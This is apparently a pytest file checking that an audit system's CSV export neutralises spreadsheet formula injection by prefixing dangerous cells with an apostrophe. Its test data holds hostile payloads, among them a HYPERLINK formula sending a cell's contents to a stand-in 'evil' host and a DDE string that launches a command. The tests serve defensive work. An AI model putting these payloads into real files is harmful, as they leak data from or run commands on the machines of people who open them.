"""A reason or a name that a spreadsheet would compute reaches no auditor as a formula."""

import csv
import io

import pytest

from server.commands.tables import harmless, write_csv
from server.storage.tables import StaffRow
from server.workflows.access import officer
from tests.builders import Hall

HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "\n=1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_be_computed_begins_with_an_apostrophe(cell: str):
    written = io.StringIO(newline="")
    write_csv(written, "audit_columns", [(cell,)])

    assert written.getvalue().startswith("\ufeff")
    [_, [read]] = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert read == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "peserta 24-0001", "2026-11-23T01:00:00+00:00", '{"reason": "other"}', "a=b"])
def test_what_no_spreadsheet_computes_stays_as_it_is(cell: str):
    assert harmless(cell) == cell


def test_the_audit_list_carries_no_formula(day: Hall):
    def write(work):
        line = work.audit.note(officer(work, day.staff["ketua"]), "pause", ("slot", day.slot), reason="other")
        work.audit.remark(line, HOSTILE[0], day.slot)
        work.session.get(StaffRow, day.staff["ketua"]).account = "=ketua"

    day.works.write(write)

    told = day.app.test_cli_runner().invoke(args=["audit", "list"]).output

    rows = list(csv.reader(io.StringIO(told.removeprefix("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'=ketua" in cells
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
